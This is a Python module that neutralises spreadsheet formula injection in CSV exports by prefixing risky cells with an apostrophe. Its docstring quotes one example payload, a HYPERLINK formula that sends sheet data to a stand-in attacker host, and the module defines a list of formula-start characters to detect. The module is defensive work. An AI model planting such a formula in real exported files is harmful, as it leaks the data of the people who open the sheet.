"""Every CSV the product writes goes through here, because its cells hold text other
people typed (workers' transcriptions, requesters' titles and ids, centre references)
and the files are opened in spreadsheets. A cell starting with = + - @ (or a tab or
carriage return, which some spreadsheets skip before reading one of those) is read as
a formula: `=HYPERLINK("http://evil.example/?leak="&A2,"Open")` sends the sheet's
data away when clicked. Such a cell gets a leading apostrophe, which spreadsheets show
as text (OWASP's "CSV injection" advice).

A plain number is left alone, so amounts such as -1.50 and phone numbers such as
+85512345678 stay numbers: a spreadsheet reads them as a value, never a formula."""

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Digits with an optional sign and decimal part, nothing else (no "e", no spaces, no
# operators): what a spreadsheet can only read as a number.
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def formula_safe(value: Any) -> Any:
    """The cell as written: a string a spreadsheet would run is made text."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class FormulaSafeWriter:
    """csv.writer whose every cell passes through formula_safe."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([formula_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **kwargs) -> FormulaSafeWriter:
    """Use instead of csv.writer for any file the product hands out."""
    return FormulaSafeWriter(file, **kwargs)
